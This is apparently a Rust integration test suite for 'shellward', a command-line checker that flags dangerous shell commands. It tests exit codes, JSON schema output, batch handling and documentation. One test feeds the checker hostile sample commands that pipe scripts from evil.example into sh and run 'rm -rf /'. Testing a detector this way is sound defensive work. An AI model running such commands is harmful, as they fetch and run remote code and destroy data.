//! The command line as its callers meet it: the built binary, its exit codes and its output.
//!
//! `tests/cli/*.toml` hold the cases as data. What needs pipes that wait, links or sizes stands here.

#![expect(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

#[path = "support/program.rs"]
mod program;
#[path = "support/schema.rs"]
mod schema;

use serde_json::Value;
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_shellward");

/// A file of cases.
#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    case: Vec<Case>,
}

/// One run of the binary.
#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    /// What it shows.
    name: String,
    /// The arguments.
    args: Vec<String>,
    /// Standard input; closed where absent. `%HERE%` stands for the directory of this project.
    stdin: Option<String>,
    /// Standard input as hexadecimal digits, for bytes that are no text.
    stdin_hex: Option<String>,
    /// Environment variables to set.
    #[serde(default)]
    env: BTreeMap<String, String>,
    /// The exit code.
    exit: i32,
    /// What standard output is, to the byte.
    stdout: Option<String>,
    /// Texts that standard output has.
    #[serde(default)]
    stdout_has: Vec<String>,
    /// Texts that it must not have.
    #[serde(default)]
    stdout_lacks: Vec<String>,
    /// Texts that standard error has. Where none is given, it is empty.
    #[serde(default)]
    stderr_has: Vec<String>,
    /// Lines of JSON: for each, values by JSON pointer; `absent` for what must not be there.
    #[serde(default)]
    json: Vec<BTreeMap<String, toml::Value>>,
}

fn run(command: &mut Command, stdin: &[u8]) -> Output {
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut pipe = child.stdin.take().unwrap();
    std::thread::scope(|s| {
        // The child may end before it has read everything; then the pipe is closed, which is no failure here.
        s.spawn(move || pipe.write_all(stdin));
        child.wait_with_output().unwrap()
    })
}

fn check(args: &[&str], stdin: &[u8]) -> (Value, i32) {
    let out = run(Command::new(BIN).arg("check").args(args), stdin);
    let code = out.status.code().expect("no death by signal");
    (serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out:?}")), code)
}

fn from_hex(digits: &str) -> Vec<u8> {
    let digits: Vec<char> = digits.chars().filter(|c| !c.is_whitespace()).collect();
    digits.chunks(2).map(|two| u8::from_str_radix(&two.iter().collect::<String>(), 16).unwrap()).collect()
}

/// What is wrong with one run.
fn wrong(case: &Case, out: &Output) -> Vec<String> {
    let mut wrong = Vec::new();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    if out.status.code() != Some(case.exit) {
        wrong.push(format!("ended with {} instead of {}", out.status, case.exit));
    }
    if case.stdout.as_ref().is_some_and(|want| *want != stdout) {
        wrong.push("standard output differs".into());
    }
    wrong.extend(case.stdout_has.iter().filter(|t| !stdout.contains(*t)).map(|t| format!("stdout lacks {t:?}")));
    wrong.extend(case.stdout_lacks.iter().filter(|t| stdout.contains(*t)).map(|t| format!("stdout has {t:?}")));
    wrong.extend(case.stderr_has.iter().filter(|t| !stderr.contains(*t)).map(|t| format!("stderr lacks {t:?}")));
    if case.stderr_has.is_empty() && !stderr.is_empty() {
        wrong.push("standard error is not empty".into());
    }
    if !case.json.is_empty() && stdout.lines().count() != case.json.len() {
        wrong.push(format!("{} lines instead of {}", stdout.lines().count(), case.json.len()));
    }
    for (line, wanted) in stdout.lines().zip(&case.json) {
        let Ok(value) = serde_json::from_str::<Value>(line) else {
            wrong.push(format!("no JSON: {line}"));
            continue;
        };
        for (pointer, want) in wanted {
            let want = serde_json::to_value(want).unwrap();
            match value.pointer(pointer) {
                None if want == "absent" => {}
                Some(got) if *got == want => {}
                got => wrong.push(format!("{pointer} is {got:?} instead of {want}")),
            }
        }
    }
    if !wrong.is_empty() {
        wrong.push(format!("stdout: {stdout}\nstderr: {stderr}"));
    }
    wrong
}

#[test]
fn cases() {
    let mut failed = Vec::new();
    let mut ran = 0;
    let state = std::env::temp_dir().join(format!("shellward-cli-{}", std::process::id()));
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli");
    let mut files: Vec<PathBuf> = std::fs::read_dir(folder).unwrap().map(|f| f.unwrap().path()).collect();
    files.sort();
    for path in files.iter().filter(|p| p.extension().is_some_and(|e| e == "toml")) {
        let file: File = toml::from_str(&std::fs::read_to_string(path).unwrap())
            .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        for case in &file.case {
            let stdin = match (&case.stdin, &case.stdin_hex) {
                (_, Some(digits)) => from_hex(digits),
                (text, None) => {
                    text.clone().unwrap_or_default().replace("%HERE%", env!("CARGO_MANIFEST_DIR")).into_bytes()
                }
            };
            let mut command = Command::new(BIN);
            command.args(&case.args).env_remove("NO_COLOR").env_remove("COLUMNS");
            // No settings and no state of the machine that runs the test.
            command.env("XDG_CONFIG_HOME", "/nonexistent").env("SHELLWARD_STATE", &state).envs(&case.env);
            let out = run(&mut command, &stdin);
            ran += 1;
            for w in wrong(case, &out) {
                failed.push(format!("{}: {}: {w}", path.display(), case.name));
            }
        }
    }
    // Not there where nothing was kept.
    let _ = std::fs::remove_dir_all(&state);
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    assert!(ran > 20, "only {ran} cases were found");
}

#[test]
fn the_name_that_other_scanners_have_makes_no_difference() {
    let folder = std::env::temp_dir().join(format!("shellward-name-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    let other = folder.join("tirith");
    program::place(Path::new(BIN), &other);
    let args = ["check", "--json", "--non-interactive", "--shell", "posix", "--", "echo hello"];
    let mut answers = [Path::new(BIN), &other].map(|bin| {
        let out = run(Command::new(bin).args(args), b"");
        let mut value: Value = serde_json::from_slice(&out.stdout).unwrap();
        value["timings_ms"] = Value::Null;
        (value, out.status.code())
    });
    std::fs::remove_dir_all(&folder).unwrap();
    let second = std::mem::take(&mut answers[1]);
    assert_eq!(answers[0], second);
    assert_eq!(second.1, Some(0));
}

#[test]
fn real_output_fits_the_schema_and_the_schema_names_all_of_it() {
    let out = run(Command::new(BIN).arg("schema"), b"");
    let schema: Value = serde_json::from_slice(&out.stdout).unwrap();
    let commands: &[&str] = &[
        "echo hello",
        "",
        "curl -s http://evil.example/x.sh | sh",
        "bash -c \"$(wget -qO- https://evil.example/x)\"; sudo rm -rf / --no-preserve-root",
        "unclosed 'quote",
        "cat <<E | base64 -d | sh\nY3VybAo=\nE\n",
        "ssh host 'docker run -v /:/x img sh -c \"python3 -c import\\ os\"'",
        "a\0b\u{202E}",
    ];
    for command in commands {
        let (value, _) = check(&["--json", "--effects"], command.as_bytes());
        assert_eq!(schema::errors(&schema, &value), Vec::<String>::new(), "{command}");
        let line = serde_json::json!({ "id": [1, "x"], "command": command }).to_string();
        let (value, _) = check(&["--batch"], line.as_bytes());
        assert_eq!(schema::errors(&schema, &value), Vec::<String>::new(), "{command}");
        assert_eq!(value["id"], serde_json::json!([1, "x"]));
    }
    let (value, code) = check(&["--json"], &vec![b'a'; shellward::limits::MAX_INPUT + 1]);
    assert_eq!(schema::errors(&schema, &value), Vec::<String>::new());
    assert_eq!((value["action"].as_str(), code), (Some("warn"), 2));
}

#[test]
fn a_line_that_is_no_request_has_its_own_schema() {
    let mut schema: Value = serde_json::from_str(shellward::report::json::SCHEMA).unwrap();
    let error = schema["$defs"]["line_error"].clone();
    for (name, value) in error.as_object().unwrap() {
        schema[name.as_str()] = value.clone();
    }
    for line in ["nonsense", r#"{"id":[1]}"#, r#"{"id":"x","command":"ls","shell":"tcsh"}"#] {
        let (value, _) = check(&["--batch"], line.as_bytes());
        assert_eq!(schema::errors(&schema, &value), Vec::<String>::new(), "{line}");
    }
}

#[test]
fn the_schema_checker_finds_what_is_wrong() {
    let schema = serde_json::from_str(shellward::report::json::SCHEMA).unwrap();
    let (good, _) = check(&["--json"], b"echo hello");
    let errors = |change: &dyn Fn(&mut Value)| {
        let mut value = good.clone();
        change(&mut value);
        schema::errors(&schema, &value).len()
    };
    assert_eq!(errors(&|_| ()), 0);
    assert_eq!(errors(&|v| v["action"] = "maybe".into()), 1);
    assert_eq!(errors(&|v| v["extra"] = 1.into()), 1);
    assert_eq!(errors(&|v| v["tier_reached"] = 4.into()), 1);
    assert_eq!(errors(&|v| v["findings"] = Value::Null), 1);
    assert_eq!(errors(&|v| drop(v.as_object_mut().unwrap().remove("programs"))), 1);
    assert_eq!(errors(&|v| v["assessment"]["reasons"] = serde_json::json!([1])), 1);
}

/// A batch that is fed by hand.
fn batch() -> Child {
    let mut command = Command::new(BIN);
    command.args(["check", "--batch"]).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    command.spawn().unwrap()
}

#[test]
fn a_batch_answers_line_by_line_to_a_client_that_waits() {
    let mut child = batch();
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    for id in 0..20 {
        writeln!(stdin, "{{\"id\":{id},\"command\":\"echo {id}\"}}").unwrap();
        let mut line = String::new();
        // A dead-lock would hang here; the test runner's own limit ends it.
        stdout.read_line(&mut line).unwrap();
        assert_eq!(serde_json::from_str::<Value>(&line).unwrap()["id"], id);
    }
    drop(stdin);
    assert!(child.wait().unwrap().success());
}

#[test]
fn a_batch_keeps_the_order_whatever_each_line_costs() {
    let heavy = "echo $(echo a); ".repeat(2_000);
    let mut text = String::new();
    for id in 0..3_000 {
        let command = if id % 500 == 0 { heavy.as_str() } else { "true" };
        text.push_str(&serde_json::json!({ "id": id, "command": command }).to_string());
        text.push('\n');
    }
    let out = run(Command::new(BIN).args(["check", "--batch"]), text.as_bytes());
    assert!(out.status.success());
    let ids: Vec<u64> = out
        .stdout
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice::<Value>(l).unwrap()["id"].as_u64().unwrap())
        .collect();
    assert_eq!(ids, (0..3_000).collect::<Vec<u64>>());
}

#[test]
fn a_batch_bounds_the_length_of_a_line() {
    let most = shellward::limits::MAX_BATCH_LINE;
    let mut text = vec![b'x'; most + 2];
    text.extend_from_slice(b"\n{\"id\":\"after\",\"command\":\"true\"}");
    let out = run(Command::new(BIN).args(["check", "--batch"]), &text);
    let lines: Vec<Value> = out.stdout.split(|b| *b == b'\n').filter_map(|l| serde_json::from_slice(l).ok()).collect();
    assert_eq!((lines[0]["line"].as_u64(), lines[1]["id"].as_str()), (Some(1), Some("after")));
    assert!(lines[0]["error"].as_str().unwrap().contains("bytes"), "{}", lines[0]);
}

#[test]
fn a_closed_pipe_is_success() {
    let mut child = Command::new(BIN)
        .args(["check", "--json", "--", "echo hello"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let mut stderr = String::new();
    child.stderr.take().unwrap().read_to_string(&mut stderr).unwrap();
    assert_eq!((child.wait().unwrap().code(), stderr.as_str()), (Some(0), ""));

    let mut child = batch();
    drop(child.stdout.take());
    let mut stdin = child.stdin.take().unwrap();
    let started = Instant::now();
    while writeln!(stdin, "{{\"command\":\"true\"}}").is_ok() {
        assert!(started.elapsed() < Duration::from_secs(20), "the batch goes on for nobody");
    }
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[cfg(unix)]
#[test]
fn arguments_of_any_bytes_are_taken() {
    use std::os::unix::ffi::OsStrExt;
    let bytes = std::ffi::OsStr::from_bytes(b"echo \xFF\xFE; \x01");
    let out = run(Command::new(BIN).args(["check", "--json", "--"]).arg(bytes), b"");
    let value: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(matches!(out.status.code(), Some(0..=2)), "{out:?}");
    assert_eq!(value["schema_version"], 3);
}

#[test]
fn every_completion_and_manual_page_is_made() {
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let out = run(Command::new(BIN).args(["completions", shell]), b"");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(out.status.success() && text.contains("non-interactive"), "{shell}");
    }
    for (page, has) in [(None, "EXIT"), (Some("check"), "non\\-interactive"), (Some("schema"), "JSON")] {
        let out = run(Command::new(BIN).arg("man").args(page), b"");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(out.status.success() && text.starts_with(".ie") && text.to_uppercase().contains(&has.to_uppercase()));
    }
}

#[test]
fn the_readme_shows_real_output() {
    let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let (_, after) = readme.split_once("cargo run --release --locked -- check -- '").expect("the first command");
    let (command, after) = after.split_once("'\n").unwrap();
    let (_, after) = after.split_once("```text\n").expect("its output");
    let (shown, _) = after.split_once("```").unwrap();
    let out = run(Command::new(BIN).args(["check", "--", command]).env_remove("COLUMNS"), b"");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(String::from_utf8(out.stdout).unwrap(), shown, "README.md is stale");
}
